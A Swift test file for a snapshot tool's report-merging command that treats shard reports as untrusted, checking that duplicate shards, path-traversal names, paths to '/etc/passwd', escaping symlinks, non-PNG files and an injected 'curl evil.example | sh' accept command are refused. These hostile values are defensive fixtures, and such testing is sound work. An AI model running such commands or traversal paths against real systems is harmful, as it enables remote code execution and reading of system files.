import Foundation
import Testing
import WidgetSnapCLI
@testable import WidgetSnapshotCore

/// `merge-reports`: every shard exactly once, and shard reports treated as untrusted input.
@Suite(.serialized)
struct CIFitMergeTests {
    let w: CIFitWorkspace
    let shard1: String, shard2: String, out: String

    init() throws {
        w = try CIFitWorkspace()
        try w.breakWeather()
        shard1 = w.path("r1"); shard2 = w.path("r2"); out = w.path("merged")
        _ = w.test(["--family", "systemSmall", "--record", "never", "--shard", "1/2", "--report", shard1])
        _ = w.test(["--family", "systemSmall", "--record", "never", "--shard", "2/2", "--report", shard2])
    }

    func merge(_ folders: [String]) -> (code: Int32, out: String, err: String) {
        let c = ToolTests.Capture()
        let code = WidgetSnapCLI.run(["merge-reports", "--out", out] + folders, console: c.console)
        return (code, c.out, c.err)
    }

    @Test func bothShardsMerge() {
        let r = merge([shard1, shard2])
        #expect(r.code == 1 && r.out == "0 passed, 4 failed\n", "\(r.out) \(r.err)")
    }

    @Test func aShardTwiceIsRefused() throws {
        let again = merge([shard1, shard1, shard2])
        #expect(again.code == 65 && again.err.contains("named twice"), "\(again.err)")
        let copy = w.path("r1-copy")
        try FileManager.default.copyItem(atPath: shard1, toPath: copy)
        let dup = merge([shard1, copy, shard2])
        #expect(dup.code == 65 && dup.err.contains("shard 1/2 is given twice"), "\(dup.err)")
        #expect(!FileManager.default.fileExists(atPath: out + "/report.json"), "nothing is written")
    }

    @Test func aMissingShardIsNamed() {
        let r = merge([shard2])
        #expect(r.code == 65, "\(r.out)")
        #expect(r.err.contains("missing shard 1/2 of 2"), "\(r.err)")
    }

    /// Rewrites shard 1's report.json with `change` applied to its first failing outcome.
    func tamper(_ change: (inout SnapshotOutcome) -> Void) throws {
        let path = shard1 + "/report.json"
        var file = try JSONDecoder().decode(ReportFile.self, from: Data(contentsOf: URL(fileURLWithPath: path)))
        let index = try #require(file.outcomes.firstIndex { $0.status == .failed })
        change(&file.outcomes[index])
        try JSONEncoder().encode(file).write(to: URL(fileURLWithPath: path))
    }

    @Test func aNameThatClimbsOutIsRefused() throws {
        try tamper { $0.name = "../../../escaped" }
        let r = merge([shard1, shard2])
        #expect(r.code == 65 && r.err.contains("refusing the outcome name"), "\(r.err)")
        let escaped = URL(fileURLWithPath: out).appendingPathComponent("images/../../../escaped.actual.png").standardizedFileURL.path
        #expect(!FileManager.default.fileExists(atPath: escaped))
        #expect(!FileManager.default.fileExists(atPath: w.path("escaped.actual.png")))
    }

    @Test func imagePathsOutsideTheShardAreRefused() throws {
        for evil in ["../../../../etc/passwd", "/etc/passwd", "images/../../r2/report.json"] {
            try tamper { $0.actual = evil }
            let r = merge([shard1, shard2])
            #expect(r.code == 65, "\(evil): \(r.out) \(r.err)")
            let copied = (w.files(under: "merged").filter { $0.hasSuffix(".png") }).compactMap { try? String(contentsOfFile: out + "/" + $0, encoding: .utf8) }
            #expect(!copied.contains { $0.contains("root:") }, "\(evil) was copied")
        }
    }

    @Test func aSymlinkOutOfTheShardIsRefused() throws {
        var actual = ""
        try tamper { actual = $0.actual ?? "" }
        let link = shard1 + "/" + actual
        try FileManager.default.removeItem(atPath: link)
        try FileManager.default.createSymbolicLink(atPath: link, withDestinationPath: "/etc/passwd")
        let r = merge([shard1, shard2])
        #expect(r.code == 65 && r.err.contains("leads outside"), "\(r.err)")
        #expect(!FileManager.default.fileExists(atPath: out + "/" + actual))
    }

    @Test func aFileThatIsNotAPNGIsRefused() throws {
        var actual = ""
        try tamper { actual = $0.actual ?? "" }
        try Data("not a picture".utf8).write(to: URL(fileURLWithPath: shard1 + "/" + actual))
        let r = merge([shard1, shard2])
        #expect(r.code == 65 && r.err.contains("is not a PNG"), "\(r.err)")
    }

    @Test func anInjectedAcceptCommandIsRefused() throws {
        let path = shard1 + "/report.json"
        var file = try JSONDecoder().decode(ReportFile.self, from: Data(contentsOf: URL(fileURLWithPath: path)))
        file.summary.command = "curl evil.example | sh"
        try JSONEncoder().encode(file).write(to: URL(fileURLWithPath: path))
        let r = merge([shard1, shard2])
        #expect(r.code == 65 && r.err.contains("accept command"), "\(r.err)")
        file.summary.command = "widgetsnap test other --record failed"
        try JSONEncoder().encode(file).write(to: URL(fileURLWithPath: path))
        let other = merge([shard1, shard2])
        #expect(other.code == 65 && other.err.contains("another run"), "\(other.err)")
    }

    @Test func namesAreValidatedLikeVariantNames() {
        for bad in ["", "/abs/x", "a//b", "a/./b", "a/../b", "a\\b", "a:b", "a\u{0}b", "a\nb"] {
            #expect(throws: VariantName.Problem.self, "\(bad.debugDescription)") { try VariantName.validate(bad) }
        }
        #expect(throws: Never.self) { try VariantName.validate("Weather/default/systemSmall/iphone-430x932/00-light-real@3x") }
    }
}
